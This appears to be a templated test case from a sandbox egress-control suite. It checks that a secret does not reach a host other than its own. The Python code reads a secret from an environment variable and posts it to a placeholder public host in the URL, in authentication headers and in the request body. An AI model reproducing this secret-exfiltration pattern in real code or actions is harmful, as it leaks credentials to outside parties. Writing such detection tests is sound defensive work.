# name: Egress: the secret sent to another listed host
# category: network
# expect: egress
# network: allow
# include: egress_client
# Sends what @SECRET_ENV_NAME@ holds to @PUBLIC_HOST@, a listed name that is not the secret's host: in the
# URL, a header and the body. Inside a sandbox that is only a placeholder, but one that reaches another host
# (or is swapped for the real value there) is the exfiltration the secret rules exist to stop.
import os
import sys

key = os.environ.get("@SECRET_ENV_NAME@", "")
if not key:
    print("DENIED getenv(@SECRET_ENV_NAME@) ENOENT", file=sys.stderr)
    sys.exit(1)
attempt("POST(https://@PUBLIC_HOST@:@WEB_PORT@/)", "https", "@PUBLIC_HOST@", @WEB_PORT@,
        "/@RUN_NAME@/collect?key=" + key, headers={"X-Api-Key": key, "Authorization": "Bearer " + key},
        body=key.encode(), method="POST")
